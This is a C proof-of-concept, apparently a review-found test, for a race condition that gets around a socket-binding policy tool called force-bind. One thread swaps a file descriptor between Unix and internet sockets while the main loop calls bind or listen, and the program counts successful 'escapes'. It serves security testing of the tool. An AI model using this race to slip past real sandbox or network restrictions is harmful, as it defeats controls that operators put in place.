/* Found in review: a way around the policy that force-bind must close (tests/escapes.rs). */
// fd-swap race: bind(T, 127.0.0.1:0) while another thread flips T between an AF_UNIX
// and an AF_INET socket. Under force-bind -d, any successful bind of the inet socket escapes.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <pthread.h>
#include <time.h>
#include <errno.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#define T 100
static volatile int stop, inet_fd, unix_fd;
static int call = 0; // 0 bind, 1 listen
static void *flipper(void *a){ while(!stop){ dup2(unix_fd,T); dup2(inet_fd,T);} return 0; }
int main(int argc,char**argv){
  double secs = argc>1? atof(argv[1]):3; if(argc>2) call=atoi(argv[2]);
  unix_fd = socket(AF_UNIX,SOCK_STREAM,0);
  if (call==1){ struct sockaddr_un u={.sun_family=AF_UNIX}; snprintf(u.sun_path+1,100,"fbswap%d",getpid()); bind(unix_fd,(void*)&u,sizeof(sa_family_t)+20); }
  inet_fd = socket(AF_INET,SOCK_STREAM,0);
  pthread_t th; pthread_create(&th,0,flipper,0);
  struct sockaddr_in a={.sin_family=AF_INET,.sin_port=0}; a.sin_addr.s_addr=htonl(0x7f000001);
  struct timespec t0,t; clock_gettime(CLOCK_MONOTONIC,&t0);
  long tries=0, esc=0, eperm=0, other=0;
  for(;;){ clock_gettime(CLOCK_MONOTONIC,&t); if((t.tv_sec-t0.tv_sec)+(t.tv_nsec-t0.tv_nsec)/1e9>secs) break;
    tries++;
    int r = call==0 ? bind(T,(void*)&a,sizeof a) : listen(T,1);
    if(r==0){ struct sockaddr_in g; socklen_t l=sizeof g; getsockname(inet_fd,(void*)&g,&l);
      if(g.sin_port){ esc++; if(esc<=3) printf("ESCAPE: inet socket bound %s:%d\n",inet_ntoa(g.sin_addr),ntohs(g.sin_port));
        int n=socket(AF_INET,SOCK_STREAM,0); int old=inet_fd; inet_fd=n; /* old stays open: leak a few */ (void)old; }
    } else if(errno==EPERM) eperm++; else other++;
  }
  stop=1; pthread_join(th,0);
  printf("tries %ld escapes %ld eperm %ld other %ld\n",tries,esc,eperm,other);
  return 0;
}
